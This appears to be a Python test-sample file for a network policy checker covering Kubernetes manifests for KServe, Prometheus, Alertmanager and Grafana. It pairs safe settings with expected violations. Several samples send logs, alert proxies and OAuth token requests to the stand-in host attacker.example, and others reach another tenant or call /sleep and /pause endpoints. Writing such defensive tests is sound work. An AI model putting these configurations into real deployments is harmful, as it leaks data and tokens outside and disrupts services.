"""Samples of the rule on the network: programs that call addresses for a team."""

from __future__ import annotations

import dataclasses
from typing import Any

from tests.policy.samples.network_scrapes import relabelled
from tests.policy.support.objects import SERVICE, manifest
from tests.policy.support.sample import UNKNOWN_VALUE, WORLD, Sample, table

_HOOK = "spec receivers 0 webhookConfigs 0"
_SERVICE_TYPE = "kubernetes:serving.kserve.io/v1beta1:InferenceService"
_TEAM = {"metadata namespace": "helpdesk"}
_TENANTS = dataclasses.replace(WORLD, settings={**WORLD.settings, "tenants": {"helpdesk": {}, "sales": {}}})


def _of_a_team(version: str, kind: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {**manifest(version, kind, spec), "metadata": {"name": "sample", "namespace": "helpdesk"}}


def _logged(url: Any) -> dict[str, Any]:
    return {**_TEAM, "spec predictor logger": {"mode": "all", "url": url}}


_ADDRESSED = (
    *table(
        _SERVICE_TYPE,
        SERVICE,
        ("calls are logged inside", _logged("http://sink.helpdesk.svc:8080/")),
        (
            "calls are logged outside",
            _logged("http://attacker.example/"),
            "predictor.logger.url: is 'http://attacker.example/'",
        ),
        (
            "calls are shown to another tenant",
            _logged("http://a.sales.svc/"),
            "logger.url: 'http://a.sales.svc/', which is of",
        ),
        ("calls are logged nobody knows where", _logged(UNKNOWN_VALUE), "logger.url: is not known"),
        world=_TENANTS,
    ),
    *table(
        "kubernetes:monitoring.coreos.com/v1alpha1:ScrapeConfig",
        manifest("monitoring.coreos.com/v1alpha1", "ScrapeConfig", {"staticConfigs": [{"targets": ["a.team.svc:80"]}]}),
        ("targets in plain text", {}),
        ("targets by a name inside", {"spec dnsSDConfigs": [{"names": ["a.kitchen.example"]}]}),
        (
            "targets by a name outside",
            {"spec dnsSDConfigs": [{"names": ["a.attacker.example"]}]},
            "names[0]: is 'a.attacker",
        ),
        (
            "targets by a program",
            {"spec dockerSDConfigs": [{"host": "tcp://a.team.svc"}]},
            "spec.dockerSDConfigs: finds",
        ),
        ("targets by a cloud", {"spec ec2SDConfigs": [{"region": "a"}]}, "spec.ec2SDConfigs: finds targets in a way"),
        ("targets not known", {"spec": UNKNOWN_VALUE}, "spec: is not known"),
        *relabelled("ScrapeConfig", "spec relabelings", "spec.relabelings[0]"),
    ),
    *table(
        "kubernetes:monitoring.coreos.com/v1:Probe",
        manifest(
            "monitoring.coreos.com/v1", "Probe", {"targets": {"staticConfig": {"static": ["http://a.team.svc/health"]}}}
        ),
        ("a probe of health", {}),
        (
            "a probe that puts a server to sleep",
            {"spec targets staticConfig static": ["http://a.sales.svc:8080/sleep?level=2"]},
            "static[0]: 'http://a.sales.svc:8080/sleep?level=2', which leads to /sleep",
        ),
        *relabelled("Probe", "spec targets staticConfig relabelingConfigs", "staticConfig.relabelingConfigs[0]"),
    ),
    *table(
        "kubernetes:monitoring.coreos.com/v1alpha1:AlertmanagerConfig",
        _of_a_team(
            "monitoring.coreos.com/v1alpha1",
            "AlertmanagerConfig",
            {"receivers": [{"name": "a", "webhookConfigs": [{"url": "http://relay.monitoring.svc/"}]}]},
        ),
        ("alerts inside", {}),
        ("alerts by a proxy inside", {f"{_HOOK} httpConfig": {"proxyUrl": "http://proxy.monitoring.svc:3128"}}),
        (
            "alerts by a proxy outside",
            {f"{_HOOK} httpConfig": {"proxyUrl": "http://attacker.example:3128"}},
            "httpConfig.proxyUrl: is 'http://attacker.example:3128': alerts go by what is outside",
        ),
        (
            "alerts with a token of a stranger",
            {f"{_HOOK} httpConfig": {"oauth2": {"tokenUrl": "https://attacker.example/token"}}},
            "httpConfig.oauth2.tokenUrl: leads to",
        ),
        ("alerts by what is not understood", {f"{_HOOK} httpConfig": {"relay": "a"}}, "httpConfig.relay: is no field"),
        (
            "alerts that stop a server",
            {f"{_HOOK} url": "http://a.helpdesk.svc/pause"},
            "url: 'http://a.helpdesk.svc/pause'",
        ),
        ("alerts to another tenant", {f"{_HOOK} url": "http://a.sales.svc/"}, "which is of another tenant"),
        world=_TENANTS,
    ),
    *table(
        "kubernetes:grafana.integreatly.org/v1beta1:GrafanaDatasource",
        _of_a_team(
            "grafana.integreatly.org/v1beta1",
            "GrafanaDatasource",
            {"datasource": {"url": "http://prometheus.monitoring.svc:9090"}},
        ),
        ("figures of Prometheus", {}),
        (
            "every path of a server",
            {"spec datasource url": "http://a-predictor.helpdesk.svc"},
            "every path of a server",
        ),
        ("every path of another tenant", {"spec datasource url": "http://a.sales.svc"}, "every path of a server"),
        world=_TENANTS,
    ),
)

SAMPLES: dict[str, tuple[Sample, ...]] = {"network-closed": _ADDRESSED}
